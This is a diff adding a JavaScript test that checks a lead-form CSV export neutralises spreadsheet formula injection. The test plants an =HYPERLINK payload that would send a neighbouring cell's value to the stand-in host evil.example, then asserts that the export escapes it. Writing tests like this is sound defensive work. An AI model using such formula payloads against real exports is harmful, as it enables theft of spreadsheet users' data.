@@ -123,6 +123,16 @@ describe('forms', () => {
     expect(String(body).split('\n')[0]).toMatch(/^name,email,phone,created_at/);
     expect(String(body).trim().split('\n')).toHaveLength(9);
   });
+
+  it('exports a visitor\'s formula-like answer as text, not as a formula', async () => {
+    const lead = db.sessions.where((s) => s._formId === seedForms.published && s.lead !== null)[0]!;
+    db.sessions.update(lead.id, { lead: { ...lead.lead!, name: '=HYPERLINK("https://evil.example/?"&B2,"open")', phone: '+1 555 0100' } });
+    const { body } = await call('GET', `/lead_forms/${seedForms.published}/lead/csv/`);
+    const text = String(body);
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""open"")"`);
+    expect(text).toContain(`'+1 555 0100`);
+    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
+  });
 });
 
 describe('sessions', () => {
